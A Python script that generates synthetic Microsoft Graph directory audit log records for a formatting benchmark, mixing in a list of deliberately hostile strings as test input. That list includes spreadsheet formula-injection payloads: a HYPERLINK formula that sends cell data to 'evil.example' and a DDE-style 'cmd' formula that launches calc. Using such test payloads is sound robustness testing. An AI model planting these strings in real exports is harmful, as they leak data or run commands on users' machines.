#!/usr/bin/env python3
"""Writes synthetic Microsoft Graph directoryAudit records as NDJSON, for benchmarks.

Usage: gen_directory_audits.py RECORDS [SEED] > audits.ndjson

The records follow the v1.0 schema (graph-api-facts.md 2.3): initiatedBy.user or
initiatedBy.app (the other one null), targetResources[] with modifiedProperties[] whose
oldValue/newValue are JSON-in-strings, additionalDetails[] key/value pairs, nullable
fields, about 1-1.5 KB per record. About one record in 50 carries a hostile string
(quotes, commas, newlines, XML markup, control characters, formulas, emoji, RTL text).
It is the fallback data source of scripts/bench-format.sh when
`aad-emulator --dump` is not available; deterministic for a seed.
"""

import json
import random
import sys
import uuid
from datetime import datetime, timedelta, timezone

ACTIVITIES = [
    ("UserManagement", "Update user", "Update", "Core Directory"),
    ("UserManagement", "Add user", "Add", "Core Directory"),
    ("UserManagement", "Delete user", "Delete", "Core Directory"),
    ("UserManagement", "Reset user password", "Update", "Self-service Password Management"),
    ("GroupManagement", "Add member to group", "Assign", "Core Directory"),
    ("GroupManagement", "Remove member from group", "Unassign", "Core Directory"),
    ("ApplicationManagement", "Update application", "Update", "Core Directory"),
    ("ApplicationManagement", "Add service principal", "Add", "Core Directory"),
    ("RoleManagement", "Add member to role", "Assign", "Core Directory"),
    ("RoleManagement", "Add eligible member to role in PIM completed (permanent)", "Assign",
     "Privileged Identity Management"),
    ("Policy", "Update conditional access policy", "Update", "Core Directory"),
    ("UserManagement", "Invite external user", "Add", "Invited Users"),
]
FIRST = ["alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy",
         "mallory", "niaj", "olivia", "peggy", "rupert", "sybil", "trent", "victor", "walter"]
LAST = ["smith", "jones", "garcia", "miller", "davis", "martinez", "lopez", "wilson",
        "anderson", "taylor", "thomas", "moore", "jackson", "white", "harris", "clark"]
APPS = [("Microsoft Azure AD Connect", "cb1056e2-e479-49de-ae31-7812af012ed8"),
        ("Microsoft Graph PowerShell", "14d82eec-204b-4c2f-b7e8-296a70dab67e"),
        ("Azure Portal", "c44b4083-3bb0-49c1-b47d-974e53cbdf3c"),
        ("MS-PIM", "01fc33a7-78ba-4d2f-a4b7-768e336e890e")]
PROPERTIES = ["AccountEnabled", "DisplayName", "Department", "JobTitle", "StrongAuthenticationMethod",
              "AssignedLicense", "UserPrincipalName", "Mail", "OtherMail", "TelephoneNumber",
              "Role.DisplayName", "Group.DisplayName", "AppAddress", "KeyDescription"]
AGENTS = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
          "Chrome/124.0.0.0 Safari/537.36 Edg/124.0.0.0",
          "Microsoft Azure Graph Client Library 1.0", "python-requests/2.31.0"]
HOSTILE = ['He said "hi", then left', "line one\nline two\r\nline three", "<script>&amp;]]></script>",
           "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"click\")", "+1-555-0100", "@SUM(1+1)*cmd|' /C calc'!A0",
           "-2+3", "\tstarts with a tab", "bell\u0007 and escape \u001b[31mred\u001b[0m",
           "emoji \U0001F600\U0001F44D\U0001F3FD", "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 RTL \u202eevil\u202c",
           "nul\u0000byte", "comma, separated, values", "back\\slash and \"quotes\""]


def guid(rng):
    return str(uuid.UUID(int=rng.getrandbits(128), version=4))


def person(rng):
    return f"{rng.choice(FIRST)}.{rng.choice(LAST)}{rng.randint(1, 999)}"


def text(rng, plain):
    return rng.choice(HOSTILE) if rng.random() < 0.02 else plain


def modified_property(rng):
    name = rng.choice(PROPERTIES)
    kind = rng.random()
    if kind < 0.4:
        old, new = json.dumps([rng.choice([True, False])]), json.dumps([rng.choice([True, False])])
    elif kind < 0.8:
        old = json.dumps([text(rng, f"{rng.choice(LAST).title()} Department")])
        new = json.dumps([text(rng, f"{rng.choice(LAST).title()} Team {rng.randint(1, 99)}")])
    else:
        old = None
        new = json.dumps([{"MethodType": rng.randint(0, 7), "Default": rng.random() < 0.5}])
    return {"displayName": name, "oldValue": old, "newValue": new}


def record(rng, when, n):
    category, activity, operation, service = rng.choice(ACTIVITIES)
    if rng.random() < 0.75:
        user = person(rng)
        initiated = {"app": None, "user": {
            "id": guid(rng), "displayName": None, "userPrincipalName": f"{user}@contoso.com",
            "ipAddress": f"203.0.113.{rng.randint(1, 254)}", "userType": None,
            "homeTenantId": None, "homeTenantName": None}}
    else:
        app, app_id = rng.choice(APPS)
        initiated = {"app": {"appId": app_id, "displayName": text(rng, app),
                             "servicePrincipalId": guid(rng), "servicePrincipalName": None},
                     "user": None}
    targets = []
    for _ in range(rng.choice([1, 1, 1, 2, 2, 3])):
        target = person(rng)
        targets.append({
            "id": guid(rng),
            "displayName": text(rng, target.replace(".", " ").title()) if rng.random() < 0.5 else None,
            "type": rng.choice(["User", "User", "Group", "Application", "ServicePrincipal", "Role"]),
            "userPrincipalName": f"{target}@contoso.com",
            "groupType": None,
            "modifiedProperties": [modified_property(rng) for _ in range(rng.randint(0, 4))],
        })
    failed = rng.random() < 0.05
    return {
        "id": f"Directory_{guid(rng)}_{rng.choice('ABCDEFGH')}{rng.randint(10000, 99999)}_{n}",
        "category": category,
        "correlationId": guid(rng),
        "result": "failure" if failed else "success",
        "resultReason": text(rng, "Insufficient privileges") if failed else "",
        "activityDisplayName": activity,
        "activityDateTime": when.strftime("%Y-%m-%dT%H:%M:%S.") + f"{rng.randint(0, 9999999):07d}Z",
        "loggedByService": service,
        "operationType": operation,
        "initiatedBy": initiated,
        "targetResources": targets,
        "additionalDetails": [{"key": "User-Agent", "value": rng.choice(AGENTS)},
                              {"key": "UserType", "value": text(rng, "Member")}],
    }


def main():
    count = int(sys.argv[1]) if len(sys.argv) > 1 else 1000
    rng = random.Random(int(sys.argv[2]) if len(sys.argv) > 2 else 1)
    when = datetime(2025, 6, 30, 23, 59, 59, tzinfo=timezone.utc)
    out = sys.stdout
    for n in range(count):
        when -= timedelta(seconds=rng.randint(0, 30))
        out.write(json.dumps(record(rng, when, n), separators=(",", ":"), ensure_ascii=False))
        out.write("\n")


if __name__ == "__main__":
    main()
